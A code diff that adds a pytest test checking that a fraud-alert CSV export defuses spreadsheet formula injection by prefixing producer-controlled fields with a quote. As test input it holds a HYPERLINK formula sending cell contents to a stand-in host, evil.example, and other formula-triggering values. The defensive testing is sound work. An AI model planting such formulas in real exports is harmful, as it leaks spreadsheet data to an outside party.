@@ -105,6 +105,23 @@ def test_csv_export_has_every_alert_and_readable_reasons(store):
     assert rows[0]["scored_at"].endswith("Z")
 
 
+def test_csv_export_neutralises_spreadsheet_formulas(store):
+    """Text that a producer controls (ids, reasons) must not run as a formula in the analyst's sheet."""
+    alerts = decoded(3)
+    alerts[0]["user_id"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    alerts[1]["merchant_id"] = "@SUM(1+1)"
+    alerts[2]["reasons"] = ["-2+3", "amount far above the user's average"]
+    store.add(alerts)
+    rows = {
+        row["transaction_id"]: row for row in csv.DictReader(io.StringIO("".join(csv_lines(store.iterate()))))
+    }
+    first, second, third = (rows[alert["transaction_id"]] for alert in alerts)
+    assert first["user_id"] == "'" + alerts[0]["user_id"]
+    assert second["merchant_id"] == "'@SUM(1+1)"
+    assert third["reasons"] == "'-2+3; amount far above the user's average"
+    assert float(first["score"]) == alerts[0]["score"], "numbers stay numbers"
+
+
 @pytest.fixture
 def webhook():
     with webhook_server() as server:
